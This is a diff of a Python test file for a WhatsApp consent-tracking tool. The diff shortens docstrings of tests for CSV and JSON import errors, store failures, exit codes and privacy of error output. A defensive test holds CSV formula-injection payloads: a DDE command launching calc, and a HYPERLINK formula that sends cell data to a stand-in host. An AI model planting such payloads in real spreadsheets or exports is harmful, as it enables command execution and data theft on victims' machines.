@@ -74,8 +74,7 @@ def contact_ids(engine: Engine) -> list[str]:
 
 def test_contacts_import_refuses_each_bad_row_by_line_and_keeps_the_rest(
         cfg: Path, engine: Engine, tmp_path: Path) -> None:
-    """A field over the csv module's size limit, a date UTC cannot hold, a NUL byte (which
-    PostgreSQL cannot store) are refused as FILE:LINE: reason; every good row is stored."""
+    """Over-long fields, dates UTC cannot hold, NUL bytes are refused by line; the rest stored."""
     source = tmp_path / "c.csv"
     source.write_text(
         HEADER
@@ -99,8 +98,7 @@ def test_contacts_import_refuses_each_bad_row_by_line_and_keeps_the_rest(
 
 
 def test_latin1_piped_to_dash_refuses_those_rows_only(cfg: Path, engine: Engine) -> None:
-    """Latin-1 bytes on standard input: the rows holding bytes that are not UTF-8 are refused
-    by line, saying so; the UTF-8 rows are stored."""
+    """Latin-1 bytes on stdin refuse their rows by line as not UTF-8; the UTF-8 rows are stored."""
     data = (HEADER + "A,Anna,0151 23456701,true,\nB,Fr\xe9d\xe9ric,0151 23456702,true,\n"
             + "C,Cem,0151 23456703,true,\n").encode("latin-1")
     result = run(cfg, "contacts", "import", "-", stdin=data)
@@ -112,8 +110,7 @@ def test_latin1_piped_to_dash_refuses_those_rows_only(cfg: Path, engine: Engine)
 
 def test_contacts_import_commits_in_chunks_and_a_store_refusal_costs_one_row(
         cfg: Path, engine: Engine, tmp_path: Path) -> None:
-    """1,200 rows go in three chunks; a row the store itself refuses (a constraint the reader
-    cannot know) is reported by its line and its chunk's other rows are still stored."""
+    """A row the store refuses is reported by line; the other rows of its chunk are stored."""
     with engine.begin() as connection:
         if engine.dialect.name == "postgresql":
             connection.execute(text("ALTER TABLE contacts ADD CONSTRAINT no_x "
@@ -138,9 +135,7 @@ def test_contacts_import_commits_in_chunks_and_a_store_refusal_costs_one_row(
 
 def test_import_reports_each_unusable_line_and_stores_every_good_one(
         cfg: Path, engine: Engine, tmp_path: Path) -> None:
-    """A 100,000-deep line, a 5,000-digit integer, a lone surrogate, bytes that are not
-    UTF-8: each is reported with its line, the lines after them are still stored, and the
-    summary is printed."""
+    """Too-deep, huge-integer, surrogate and non-UTF-8 lines are reported; good lines stored."""
     big = stop_line(2).replace(f'"{int(RECENT.timestamp())}"', "7" * 5000)
     surrogate = stop_line(3).replace("wamid.LINE3", "wamid.\\ud800")
     lines = [stop_line(1).encode(), b"[" * 100_000 + b"]" * 100_000, big.encode(),
@@ -182,9 +177,7 @@ bad_lines = st.one_of(
 
 
 def test_import_property_every_good_line_is_stored(tmp_path: Path, store_url: str) -> None:
-    """For any archive of good STOP lines with arbitrary bad lines between them (any text,
-    any bytes, any nesting, huge numbers, lone surrogates), every good line is stored and
-    the command ends with its summary, never a traceback."""
+    """Any archive of good STOP lines among arbitrary bad lines stores every good line."""
     cfg = write_config(tmp_path, store_url)
     engine = open_engine(store_url)
     counter = iter(range(10**9))
@@ -228,8 +221,7 @@ def postgres_with_setting(store_url: str, setting: str) -> str:
 
 def test_read_only_store_is_exit_3_with_a_sentence(tmp_path: Path, store_url: str,
                                                    engine: Engine) -> None:
-    """A read-only store (a SQLite file opened read-only; a read-only PostgreSQL session)
-    makes a write exit 3 saying so, not an OperationalError traceback; reads still work."""
+    """A read-only store makes a write exit 3 with a sentence, not a traceback; reads work."""
     if engine.dialect.name == "sqlite":
         database = store_url.removeprefix("sqlite:///")
         url = f"sqlite:///file:{database}?mode=ro&uri=true"
@@ -286,8 +278,7 @@ def test_locked_store_is_exit_3_with_a_sentence(tmp_path: Path, store_url: str,
 ])
 def test_unusable_store_url_is_a_configuration_error(tmp_path: Path, url: str,
                                                      expected: str) -> None:
-    """Another driver or an in-memory SQLite database (which the receiver would use while
-    /healthz said ok) exits 1 naming the file and the key store.url."""
+    """Another driver or an in-memory SQLite store.url exits 1 naming the file and store.url."""
     cfg = write_config(tmp_path, url)
     result = run(cfg, "runs")
     assert result.exit_code == 1
@@ -306,8 +297,7 @@ def test_store_path_under_a_file_is_a_configuration_error(tmp_path: Path) -> Non
 
 
 def test_receiver_refuses_an_in_memory_store_at_start(tmp_path: Path) -> None:
-    """`waconsent webhook` with sqlite:/// exits 1 instead of answering 503 beside an ok
-    /healthz."""
+    """`waconsent webhook` over sqlite:/// exits 1 naming store.url instead of serving."""
     cfg = write_config(tmp_path, "sqlite:///")
     result = CliRunner(env={"WHATSAPP_APP_SECRET": "s", "WHATSAPP_VERIFY_TOKEN": "t"}).invoke(
         main, ["--config", str(cfg), "webhook"], catch_exceptions=False)
@@ -318,9 +308,7 @@ def test_receiver_refuses_an_in_memory_store_at_start(tmp_path: Path) -> None:
 
 
 def test_no_error_path_prints_personal_data(cfg: Path, engine: Engine) -> None:
-    """A store error in the middle of a sync (here the phone index refuses a row, and
-    PostgreSQL's message would quote the whole row) prints a type and a place, exit 3;
-    neither the output nor the run record holds the number or the name."""
+    """A store error mid-sync prints and records a type and place, never the number or name."""
     with engine.begin() as connection:
         if engine.dialect.name == "postgresql":
             connection.execute(text("ALTER TABLE phone_index ADD CONSTRAINT sabotage "
@@ -349,8 +337,7 @@ DANGEROUS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?q="&A1,"click"
 
 def test_contacts_export_neutralises_formulas_and_round_trips(
         cfg: Path, engine: Engine, tmp_path: Path) -> None:
-    """Every cell starting with =, +, -, @, tab or CR is written with a leading apostrophe,
-    and importing the export restores every value exactly, phone numbers like +49 included."""
+    """Formula cells are exported with an apostrophe and every value round-trips through import."""
     rows = [{"id": f"X{i}", "name": name, "mobile_phone": "+49 151 2345670" + str(i),
              "opt_in_source": "\tweb" if i == 0 else "\rform" if i == 1 else "web-form",
              "opt_in": True} for i, name in enumerate(DANGEROUS)]
@@ -379,8 +366,7 @@ def test_contacts_export_neutralises_formulas_and_round_trips(
 
 
 def test_missing_proof_csv_neutralises_formulas(cfg: Path, engine: Engine) -> None:
-    """report missing-proof --format csv writes a would-be formula (a CRM name, a source) as
-    text."""
+    """report missing-proof --format csv writes a would-be formula as text."""
     upsert_contacts(engine, [{"id": "=1+1", "name": '=HYPERLINK("x")', "opt_in": True,
                               "opt_in_source": "@SUM(A1)", "mobile_phone": "0151 23456789"}],
                     RECENT)
@@ -391,8 +377,7 @@ def test_missing_proof_csv_neutralises_formulas(cfg: Path, engine: Engine) -> No
 
 @given(st.text())
 def test_csv_cell_is_undone_by_csv_value(value: str) -> None:
-    """For every text, the import's reading of an exported cell is the value itself, and an
-    exported cell never starts with a formula trigger."""
+    """For any text, import reads an exported cell back exactly and no cell starts a formula."""
     cell = csv_cell(value)
     assert csv_value(cell) == value
     assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
@@ -405,16 +390,14 @@ def test_csv_cell_is_undone_by_csv_value(value: str) -> None:
                                   ["report", "missing-proof", "--format", "xml"],
                                   ["import"], ["proof"], []])
 def test_usage_errors_exit_1(args: list[str]) -> None:
-    """click's usage errors (unknown option or command, bad choice, missing argument, no
-    command) exit 1, as README says; 2 stays "some writes failed"."""
+    """click's usage errors exit 1, as README says, leaving 2 to "some writes failed"."""
     result = CliRunner().invoke(main, args)
     assert result.exit_code == 1, result.output
     assert "Usage:" in result.output
 
 
 def test_a_record_that_cannot_be_decided_makes_sync_exit_2(cfg: Path, engine: Engine) -> None:
-    """A record the rules cannot compute with is listed and the run exits 2 (partial), after
-    the other records' revocations were written."""
+    """A record the rules cannot decide is listed and sync exits 2 after writing the others."""
     from waconsent.domain import Event, EventKind
     from waconsent.store import events as event_store
 
@@ -451,9 +434,7 @@ def shared_sqlite(tmp_path: Path) -> Iterator[tuple[Path, Engine, str]]:
 
 def test_deliveries_never_wait_a_second_during_a_long_contacts_import(
         shared_sqlite: tuple[Path, Engine, str], tmp_path: Path) -> None:
-    """While another process imports 30,000 contacts into the same SQLite ledger, deliveries
-    to the receiver are answered within a second each (the import commits every 500 rows;
-    in one transaction it held the write lock for the whole file)."""
+    """During a 30,000-row contacts import every delivery to the same ledger answers within 1 s."""
     cfg, engine, url = shared_sqlite
     source = tmp_path / "big.csv"
     source.write_text(HEADER + "".join(f"C{i:05d},Name {i},0151 2{i:07d},true,"
